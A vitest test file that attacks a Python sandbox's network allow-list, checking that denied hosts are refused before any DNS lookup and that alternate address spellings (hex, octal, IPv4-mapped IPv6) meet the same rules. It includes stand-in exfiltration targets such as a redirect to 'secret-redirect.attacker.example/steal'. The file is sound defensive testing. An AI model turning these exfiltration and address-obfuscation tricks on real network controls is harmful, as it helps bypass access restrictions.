/**
 * Attacks on the network allow-list, through the real `mpy` command and a
 * DNS server the test runs (`MPY_NET_DNS`): a denied destination is
 * refused before any name is sent to a resolver (no DNS exfiltration), and
 * every spelling of an address meets the rule for that address.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dnsRecorder, type DnsRecorder } from '../helpers/dns-recorder.js';
import { PRELUDE, buildOnce, runPython } from '../fixtures/net/run.js';
import { httpServer, lineEcho, tcpServer, type Running } from '../fixtures/net/servers.js';

let dns: DnsRecorder;
let echo: Running;
let echo6: Running;
let redirector: Running;

const TRY = `${PRELUDE}
def tup(host, port):
    s = usocket.socket()
    try:
        s.connect((host, port))
        s.write(b"hi\\n")
        return s.readline()
    except OSError as e:
        return repr(e)
    finally:
        s.close()
def via_gai(host, port):
    try:
        ai = usocket.getaddrinfo(host, port, 0, usocket.SOCK_STREAM)[0]
    except OSError as e:
        return "gai " + repr(e)
    s = usocket.socket(ai[0], ai[1], ai[2])
    try:
        s.connect(ai[-1])
        s.write(b"hi\\n")
        return s.readline()
    except OSError as e:
        return repr(e)
    finally:
        s.close()
`;

beforeAll(async () => {
  buildOnce();
  dns = await dnsRecorder({ 'allowed.test': '127.0.0.1' });
  echo = await tcpServer(lineEcho);
  echo6 = await tcpServer(lineEcho, '::1');
  redirector = await httpServer((_req, res) => {
    res.writeHead(302, { location: 'http://secret-redirect.attacker.example/steal' });
    res.end();
  });
});

afterAll(async () => {
  await Promise.all([dns.close(), echo.close(), echo6.close(), redirector.close()]);
});

function run(code: string, allow: string): ReturnType<typeof runPython> {
  return runPython(`${TRY}\n${code}`, { MPY_NET_ALLOW: allow, MPY_NET_DNS: `127.0.0.1:${dns.port}` });
}

describe('policy before resolution', () => {
  it('a denied name is refused without a DNS query: connect gives EACCES, getaddrinfo EAI_AGAIN', async () => {
    const r = await run(
      `
print(tup("secret-connect.attacker.example", 80))
print(err(lambda: usocket.getaddrinfo("secret-gai.attacker.example", 80)))
print(tup("allowed.test", ${echo.port} + 1))
print(tup("allowed.test", ${echo.port}))
`,
      `allowed.test:${echo.port}`,
    );
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe("OSError(13,)\nOSError('[addrinfo error -3]',)\nOSError(13,)\nb'echo: HI\\n'\n");
    // The allowed name was asked (the observation works); the denied ones never were.
    expect(dns.asked).toContain('allowed.test');
    expect(dns.asked.filter((n) => n.includes('attacker'))).toEqual([]);
  });

  it('with the network off, nothing is looked up at all', async () => {
    const before = dns.asked.length;
    const r = await run(
      `
print(tup("secret-off.attacker.example", 443))
print(err(lambda: usocket.getaddrinfo("secret-off2.attacker.example", 443)))
print(tup("127.0.0.1", ${echo.port}))
`,
      '',
    );
    expect(r.stdout).toBe("OSError(13,)\nOSError('[addrinfo error -3]',)\nOSError(13,)\n");
    expect(dns.asked.slice(before)).toEqual([]);
  });

  it('a redirect the host follows to a denied name is refused (EACCES on read) without a query', async () => {
    const r = await run(
      `
s = get(${redirector.port}, "x")
print(err(lambda: s.read()))
`,
      `127.0.0.1:${redirector.port}`,
    );
    expect(r.stdout).toBe('OSError(13,)\n');
    expect(dns.asked.filter((n) => n.includes('secret-redirect'))).toEqual([]);
  });

  it('a name rule does not admit the bare address, but an address learned from getaddrinfo of the name is', async () => {
    const r = await run(
      `
print(tup("127.0.0.1", ${echo.port}))
print(via_gai("allowed.test", ${echo.port}))
print(tup("127.0.0.1", ${echo.port}))
`,
      `allowed.test:${echo.port}`,
    );
    expect(r.stdout).toBe("OSError(13,)\nb'echo: HI\\n'\nb'echo: HI\\n'\n");
  });
});

describe('allow-list spellings of one address', () => {
  it('127.1, 0x7f000001, 017700000001 and ::ffff:127.0.0.1 all meet a 127.0.0.1 rule, as tuples and through getaddrinfo', async () => {
    const spellings = ['127.1', '0x7f000001', '017700000001', '::ffff:127.0.0.1', '::ffff:7f00:1'];
    const code = spellings
      .map((h) => `print(tup(${JSON.stringify(h)}, ${echo.port}), via_gai(${JSON.stringify(h)}, ${echo.port}))`)
      .join('\n');
    const r = await run(code, `127.0.0.1:${echo.port}`);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe("b'echo: HI\\n' b'echo: HI\\n'\n".repeat(spellings.length));
    expect(dns.asked.filter((n) => /^(127|0x|0177|::)/.test(n))).toEqual([]);
  });

  it('the same spellings are refused when only a name is allowed', async () => {
    const spellings = ['127.1', '0x7f000001', '::ffff:127.0.0.1', '::1', '0:0:0:0:0:0:0:1'];
    const code = spellings
      .map((h) => `print(tup(${JSON.stringify(h)}, ${echo.port}), via_gai(${JSON.stringify(h)}, ${echo.port}))`)
      .join('\n');
    const r = await run(code, `example.com:${echo.port}`);
    expect(r.stdout).toBe('OSError(13,) OSError(13,)\n'.repeat(spellings.length));
  });

  it('rules spelled 127.1, 0x7f000001 or [::ffff:127.0.0.1] admit 127.0.0.1', async () => {
    for (const rule of ['127.1', '0x7f000001', '[::ffff:127.0.0.1]']) {
      const r = await run(`print(tup("127.0.0.1", ${echo.port}))`, `${rule}:${echo.port}`);
      expect(r.stdout, rule).toBe("b'echo: HI\\n'\n");
    }
  });

  it('[::1] admits ::1 as a tuple, in full form, and as a getaddrinfo sockaddr', async () => {
    const r = await run(
      `
print(tup("::1", ${echo6.port}))
print(tup("0:0:0:0:0:0:0:1", ${echo6.port}))
print(via_gai("::1", ${echo6.port}))
print(usocket.getaddrinfo("::1", ${echo6.port})[0][0] == usocket.AF_INET6)
print(tup("::2", ${echo6.port}))
`,
      `[::1]:${echo6.port}`,
    );
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe("b'echo: HI\\n'\nb'echo: HI\\n'\nb'echo: HI\\n'\nTrue\nOSError(13,)\n");
  });
});
